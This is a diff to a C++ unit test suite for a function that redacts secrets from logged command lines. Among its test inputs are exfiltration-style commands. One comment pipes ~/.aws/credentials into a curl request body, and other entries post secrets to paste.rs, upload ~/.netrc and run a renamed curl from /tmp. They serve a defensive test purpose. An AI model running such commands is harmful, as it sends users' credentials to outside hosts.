@@ -109,10 +109,41 @@ TEST_CASE("redact_args: flag context")
     CHECK(joined({"tar", "-p", "x"}) == "tar -p x");
     CHECK(joined({"curl", "-sk", "--data-binary", "@-", "https://hooks.slack.com/services/T1/B2/sekrit"}) ==
           "curl -sk --data-binary @- https://hooks.slack.com/services/T1/B2/[REDACTED]");
-    CHECK(joined({"curl", "-d", "token=abc&x=1", "https://x"}) == "curl -d token=[REDACTED]&x=1 https://x");
+    CHECK(joined({"curl", "-d", "token=abc&x=1", "https://x"}) == "curl -d [REDACTED] https://x");
     CHECK(redact_args({}).empty());
     CHECK(joined({"-u"}) == "-u");
     CHECK(joined({"curl", "-u"}) == "curl -u");
+}
+
+TEST_CASE("redact_args: an inline request body is payload, a file reference is evidence")
+{
+    // curl -d "text=$(cat ~/.aws/credentials)": the file's contents are on the command line.
+    const std::string body = "text=[default]\naws_access_key_id = AKIAXXXXXXXXXXXXXXXX\nsecret = 1";
+    CHECK(joined({"curl", "-d", body, "https://x"}) == "curl -d [REDACTED] https://x");
+    CHECK(joined({"curl", "-d" + body}) == "curl -d[REDACTED]");
+    CHECK(joined({"curl", "-sd", body}) == "curl -sd [REDACTED]");
+    CHECK(joined({"curl", "-skd" + body}) == "curl -skd[REDACTED]");
+    CHECK(joined({"curl", "--data", body}) == "curl --data [REDACTED]");
+    CHECK(joined({"curl", "--data-binary=" + body}) == "curl --data-binary=[REDACTED]");
+    CHECK(joined({"curl", "--json", "{\"a\":1}"}) == "curl --json [REDACTED]");
+    CHECK(joined({"curl", "--data-raw", "@not-a-file"}) == "curl --data-raw [REDACTED]");
+    CHECK(joined({"curl", "-d", "@/tmp/x", "--data-binary", "@-"}) == "curl -d @/tmp/x --data-binary @-");
+    CHECK(joined({"curl", "-F", "file=@/home/a/.netrc", "-F", "note=hello"}) ==
+          "curl -F file=@/home/a/.netrc -F note=[REDACTED]");
+    CHECK(joined({"curl", "-F", "f=</etc/hosts;type=text/plain"}) == "curl -F f=</etc/hosts;type=text/plain");
+    CHECK(joined({"curl", "--form-string", "f=@literal"}) == "curl --form-string f=[REDACTED]");
+    CHECK(joined({"curl", "--data-urlencode", "q=hello", "--data-urlencode", "name@file.txt"}) ==
+          "curl --data-urlencode q=[REDACTED] --data-urlencode name@file.txt");
+    CHECK(joined({"wget", "--post-data=f=machine x login y password z"}) == "wget --post-data=[REDACTED]");
+    CHECK(joined({"wget", "--post-data", "abc", "--post-file=/tmp/f"}) == "wget --post-data [REDACTED] --post-file=/tmp/f");
+    CHECK(joined({"curl", "-sH", "Authorization: Bearer abcdefgh1234"}) == "curl -sH Authorization: [REDACTED]");
+    // A renamed curl is known by its long flags; other tools' -d and -F are not bodies.
+    CHECK(joined({"/tmp/.x", "--resolve", "h:1:2", "-d", "secret body"}) == "/tmp/.x --resolve h:1:2 -d [REDACTED]");
+    CHECK(joined({"base64", "-d", "file.b64"}) == "base64 -d file.b64");
+    CHECK(joined({"tar", "-F", "script"}) == "tar -F script");
+    CHECK(redact_option_value("-d", "text=abc") == "[REDACTED]");
+    CHECK(redact_option_value("--upload-file", "/tmp/x") == "/tmp/x");
+    CHECK(redact_option_value("-F", "file=@/tmp/k") == "file=@/tmp/k");
 }
 
 TEST_CASE("redacted_command_line cuts long lines")
@@ -140,6 +171,9 @@ TEST_CASE("redaction never leaves a planted secret")
         {"app", "--client-secret=" + secret},
         {"git", "push", "https://ghp_" + secret + "@github.com/o/r"},
         {"mysql", "-p" + secret},
+        {"curl", "-d", "msg=" + secret, "https://paste.rs/"},
+        {"curl", "-sF", "a=" + secret},
+        {"wget", "--body-data", secret},
     };
     for (const auto& argv : argvs) {
         CAPTURE(argv.back());
